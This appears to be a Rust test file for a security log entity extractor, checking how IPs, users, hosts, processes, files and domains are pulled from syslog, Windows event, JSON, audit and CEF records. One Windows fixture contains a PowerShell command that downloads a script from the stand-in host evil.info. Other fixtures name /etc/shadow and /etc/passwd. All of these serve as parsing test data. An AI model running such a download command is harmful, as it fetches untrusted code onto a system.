//! Whole events: header, fields and text together.

use super::*;

#[test]
fn the_header_gives_its_host_and_its_process() {
    let mut case = Case::plain("Accepted publickey for deploy from 2001:db8::17 port 51022 ssh2");
    (case.host, case.app, case.procid) = ("web-01", "sshd", "1234");
    assert_eq!(
        case.entities(),
        [
            "ip 2001:db8::17 source",
            "user deploy target",
            "host web-01 header",
            "process sshd:1234 header",
        ]
    );
    let mut batch = case.batch();
    Extractor::new(OPTIONS).extract(&mut batch);
    let ids: Vec<EntityId> = batch.entities.iter().map(|entity| entity.id).collect();
    let wanted = [
        id(Kind::Ip, "2001:db8::17"),
        id(Kind::User, "deploy"),
        id(Kind::Host, "WEB-01"),
        id(Kind::Process, "sshd:1234"),
    ];
    assert_eq!(ids, wanted);
    (case.host, case.procid) = ("10.0.0.1", "-");
    assert_eq!(case.entities()[0], "ip 10.0.0.1 header");
    assert_eq!(case.entities()[3], "process sshd header");
    for (app, procid) in [("dfs.DataNode", "31"), ("org.mortbay.log", ""), ("two words", "1")] {
        (case.app, case.procid) = (app, procid);
        assert_eq!(case.entities().len(), 3, "{app}");
    }
    (case.app, case.procid) = ("rpc.statd", "");
    assert_eq!(case.entities()[3], "process rpc.statd header");
    (case.host, case.app) = ("-", "crond(pam_unix)");
    assert_eq!(case.entities()[2], "process crond header");
}

#[test]
fn windows_fields_make_whole_names() {
    let logon = Case::fields(
        Format::Windows,
        &[
            ("Event.System.Computer", "DC01.corp.example"),
            ("Event.System.Execution.#attributes.ProcessID", "640"),
            ("Event.EventData.SubjectUserName", "-"),
            ("Event.EventData.SubjectDomainName", "-"),
            ("Event.EventData.TargetUserName", "Administrator"),
            ("Event.EventData.TargetDomainName", "CORP"),
            ("Event.EventData.TargetUserSid", "S-1-5-21-1-2-3-500"),
            ("Event.EventData.WorkstationName", "WS1"),
            ("Event.EventData.IpAddress", "::ffff:10.9.8.7"),
            ("Event.EventData.ProcessName", "-"),
        ],
    );
    assert_eq!(
        logon.entities(),
        [
            "ip ::ffff:10.9.8.7 field source",
            "user CORP\\Administrator field target",
            "host DC01.corp.example field",
            "host WS1 field source",
        ]
    );
    let mut process = Case::fields(
        Format::Windows,
        &[
            ("Computer", "WS1"),
            ("Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
            ("User", "CORP\\alice"),
            ("ParentImage", "C:\\Windows\\explorer.exe"),
            ("CommandLine", "powershell.exe -c iwr http://evil.info/a.ps1 -o C:\\Temp\\a.ps1"),
        ],
    );
    process.fields.push(("ProcessId", Value::Int(3412), ""));
    process.fields.push(("ParentProcessId", Value::Int(77), ""));
    assert_eq!(
        process.entities(),
        [
            "user CORP\\alice field",
            "host WS1 field",
            "domain evil.info field",
            "file C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe field",
            "file C:\\Windows\\explorer.exe field",
            "file C:\\Temp\\a.ps1 field",
            "process powershell.exe:3412 field",
            "process explorer.exe:77 field",
        ]
    );
    let audited = Case::fields(
        Format::Windows,
        &[
            ("NewProcessName", "C:\\Windows\\System32\\cmd.exe"),
            ("NewProcessId", "0x1a4"),
            ("ProcessId", "0x4d"),
            ("ParentProcessName", "C:\\Windows\\explorer.exe"),
        ],
    );
    let entities = audited.entities();
    assert_eq!(entities[2..], ["process cmd.exe:420 field", "process explorer.exe:77 field"]);
}

#[test]
fn what_windows_shows_is_not_read_beside_what_it_says() {
    let message = "Account Name: bob\tSource Network Address: 10.0.0.1";
    let fields = [("Message", message), ("ProcessID", "640")];
    let case = Case::fields(Format::Windows, &fields);
    assert_eq!(case.entities(), ["ip 10.0.0.1 field", "user bob field"]);
    let fields = [("Message", message), ("TargetUserName", "bob"), ("TargetDomainName", "CORP")];
    let case = Case::fields(Format::Windows, &fields);
    assert_eq!(case.entities(), ["user CORP\\bob field target"]);
}

#[test]
fn fields_of_every_family_are_known_by_name() {
    for (format, name, value, wanted) in [
        (Format::Json, "source.ip", "10.0.0.1", "ip 10.0.0.1 field source"),
        (Format::Json, "srcIp", "10.0.0.1:443", "ip 10.0.0.1 field source"),
        (Format::Json, "id.resp_h", "fe80::1%eth0", "ip fe80::1 field target"),
        (Format::Json, "dest_ip", "[2001:db8::1]:53", "ip 2001:db8::1 field target"),
        (Format::Access, "c-ip", "10.0.0.1", "ip 10.0.0.1 field source"),
        (Format::Access, "cs-host", "www.example.info", "domain www.example.info field"),
        (Format::Access, "cs-username", "bob", "user bob field"),
        (Format::Json, "client.address", "10.0.0.1", "ip 10.0.0.1 field source"),
        (Format::Json, "client.address", "web.example.com", "domain web.example.com field source"),
        (Format::Json, "resource.host.name", "web-01", "host web-01 field"),
        (Format::Json, "user.name", "bob", "user bob field"),
        (Format::Json, "dns.question.name", "a.b.tunnel", "domain a.b.tunnel field"),
        (Format::Json, "url.full", "https://evil.zip/x", "domain evil.zip field"),
        (Format::Json, "file.path", "/etc/shadow", "file /etc/shadow field"),
        (Format::Json, "userIdentity.userName", "bob", "user bob field actor"),
        (Format::Json, "sourceIPAddress", "10.0.0.1", "ip 10.0.0.1 field source"),
        (Format::Audit, "acct", "root", "user root field target"),
        (Format::Audit, "name", "/etc/passwd", "file /etc/passwd field"),
        (Format::Cef, "suser", "bob", "user bob field actor"),
        (Format::Cef, "dhost", "db1", "host db1 field target"),
        (Format::Json, "_HOSTNAME", "db1", "host db1 field"),
        (Format::Json, "pid", "77", "process 77 field"),
        (Format::Json, "path", "/etc/passwd", "file /etc/passwd field"),
        (Format::KeyValue, "rhost", "host.example.com", "host host.example.com field source"),
    ] {
        assert_eq!(Case::fields(format, &[(name, value)]).entities(), [wanted], "{name}");
    }
    for (name, value) in [
        ("user", "-"),
        ("user.name", "(null)"),
        ("TargetUserName", "S-1-5-18"),
        ("source.ip", "unknown"),
        ("hostname", "?"),
        ("auid", "4294967295"),
        ("name", "/etc/passwd"),
        ("path", "/api/v1/users"),
        ("url.path", "/etc/passwd"),
        ("pid", "0"),
        ("ParentProcessId", "12"),
        ("file.path", "relative/x"),
        ("user_agent", "curl/10.1.1.1"),
        ("source", "app"),
        ("log.file.path", "/var/log/x.log"),
    ] {
        let none: [&str; 0] = [];
        assert_eq!(Case::fields(Format::Json, &[(name, value)]).entities(), none, "{name}");
    }
}

#[test]
fn halves_of_a_process_are_one() {
    let fields = [("pid", "4242"), ("ppid", "1"), ("comm", "curl"), ("exe", "/usr/bin/curl")];
    let case = Case::fields(Format::Audit, &fields);
    assert_eq!(case.entities(), ["file /usr/bin/curl field", "process curl:4242 field"]);
    let mut text = Case::plain("worker pid=1234 exited, cron restarted by pid 99");
    (text.app, text.procid) = ("sshd", "1234");
    assert_eq!(text.entities(), ["process sshd:1234 header", "process 99"]);
}

#[test]
fn what_is_said_in_full_is_not_said_in_part() {
    let mut case = Case::plain("login of user bob by user ann");
    case.format = Format::Json;
    (case.app, case.procid) = ("shop", "77");
    case.fields = vec![
        ("user.name", Value::Null, "Bob"),
        ("user.domain", Value::Null, "CORP"),
        ("process.name", Value::Null, "java"),
        ("process.pid", Value::Int(77), ""),
    ];
    let wanted = ["user CORP\\Bob field", "user ann actor", "process java:77 field"];
    assert_eq!(case.entities(), wanted);
}

#[test]
fn what_su_writes_says_who_became_whom() {
    for message in ["(to root) bob on pts/1", "+ pts/0 bob:root", "- ??? bob:root"] {
        let mut case = Case::plain(message);
        case.app = "su";
        let wanted = ["user bob actor", "user root target"];
        let mut users = case.entities();
        users.retain(|entity| entity.starts_with("user"));
        users.sort();
        assert_eq!(users, wanted, "{message}");
    }
}

#[test]
fn the_better_place_wins_and_the_role_is_kept() {
    let mut case = Case::plain("Failed password for root from 10.0.0.5 port 1, root at web-01");
    case.host = "web-01";
    case.fields = vec![
        ("ip", Value::Null, "10.0.0.5"),
        ("host", Value::Null, "WEB-01"),
        ("message", Value::Null, "host web-01 from 10.0.0.7"),
    ];
    assert_eq!(
        case.entities(),
        [
            "ip 10.0.0.5 field source",
            "ip 10.0.0.7 field source",
            "user root target",
            "host web-01 header"
        ]
    );
}

#[test]
fn no_more_entities_than_the_limit_and_a_flag_that_says_so() {
    let text: Vec<String> = (0..60).map(|number| format!("10.0.0.{number}")).collect();
    for (count, cut) in [(50, false), (51, true)] {
        let mut batch = Case::plain(&text[..count].join(" ")).batch();
        Extractor::new(OPTIONS).extract(&mut batch);
        assert_eq!(batch.entities.len(), 50);
        assert_eq!(batch.events[0].flags.has(Flags::ENTITIES_CUT), cut);
        assert_eq!(batch.text(batch.entities[49].value), "10.0.0.49");
    }
    let far = format!("10.0.0.1 {}\u{fc} 10.0.0.2", "x".repeat(SCAN_BYTES - 10));
    let mut batch = Case::plain(&far).batch();
    Extractor::new(OPTIONS).extract(&mut batch);
    assert_eq!(spell(&batch), ["ip 10.0.0.1"]);
    assert!(batch.events[0].flags.has(Flags::ENTITIES_CUT));
}

/// A batch whose fields are pieces of its message.
fn within(format: Format, message: &str, fields: &[(&str, &str)]) -> Batch {
    let mut case = Case::plain(message);
    case.format = format;
    let mut batch = case.batch();
    let base = batch.block.text.find(message).unwrap();
    let place = |piece: &str| {
        Text::in_block(base + message.find(piece).expect("a piece of the message"), piece.len())
    };
    batch.fields = fields
        .iter()
        .map(|(name, value)| Field { name: place(name), value: Value::Text(place(value)) })
        .collect();
    batch.events[0].fields = (0, fields.len() as u32);
    Extractor::new(OPTIONS).extract(&mut batch);
    batch
}

#[test]
fn a_body_is_not_read_twice_but_words_around_pairs_are() {
    let body = "{\"TargetUserName\":\"bob\",\"TargetDomainName\":\"CORP\",\"x\":\"10.0.0.1\"}";
    let fields = [("TargetUserName", "bob"), ("TargetDomainName", "CORP"), ("x", "10.0.0.1")];
    let batch = within(Format::Json, body, &fields);
    assert_eq!(spell(&batch), ["user CORP\\bob field target"]);
    let body = "Denied 10.0.0.1 on web: TargetUserName=bob TargetDomainName=CORP pid=7 comm=cat";
    let fields =
        [("TargetUserName", "bob"), ("TargetDomainName", "CORP"), ("pid", "7"), ("comm", "cat")];
    let batch = within(Format::KeyValue, body, &fields);
    assert_eq!(
        spell(&batch),
        ["ip 10.0.0.1", "user CORP\\bob field target", "process cat:7 field"]
    );
    let inner = "login for user bob failed";
    let batch = within(Format::Json, inner, &[]);
    assert_eq!(spell(&batch), ["user bob target"]);
}

#[test]
fn an_entity_in_a_parameter_is_marked_as_one() {
    let message = "open /etc/passwd by bob: user bob failed from 10.0.0.1";
    let mut case = Case::plain(message);
    case.host = "web-01";
    let mut batch = case.batch();
    Extractor::new(OPTIONS).extract(&mut batch);
    let at = |piece: &str| {
        let start = message.find(piece).unwrap() as u32;
        (start, start + piece.len() as u32)
    };
    mark_parameters(&mut batch, 0, &[at("10.0.0.1"), at("passwd")]);
    assert_eq!(
        spell(&batch),
        ["ip 10.0.0.1 parameter source", "host web-01 header", "file /etc/passwd parameter"]
    );
    mark_parameters(&mut batch, 0, &[]);
    assert_eq!(spell(&batch)[0], "ip 10.0.0.1 parameter source");
}

#[test]
fn two_extractors_agree_whatever_they_have_seen() {
    let mut seasoned = Extractor::new(Options { id_cache_slots: 4, ..OPTIONS });
    for round in 0..3_000 {
        let mut case = Case::plain("");
        case.message =
            format!("Failed password for u{} from 10.0.0.{} port 1", round % 13, round % 256);
        (case.host, case.app, case.procid) = ("web-01", "sshd", "99");
        let (mut one, mut other) = (case.batch(), case.batch());
        seasoned.extract(&mut one);
        Extractor::new(Options { id_cache_slots: 0, ..OPTIONS }).extract(&mut other);
        assert_eq!(spell(&one), spell(&other));
        let ids = |batch: &Batch| batch.entities.iter().map(|entity| entity.id).collect::<Vec<_>>();
        assert_eq!(ids(&one), ids(&other));
    }
}
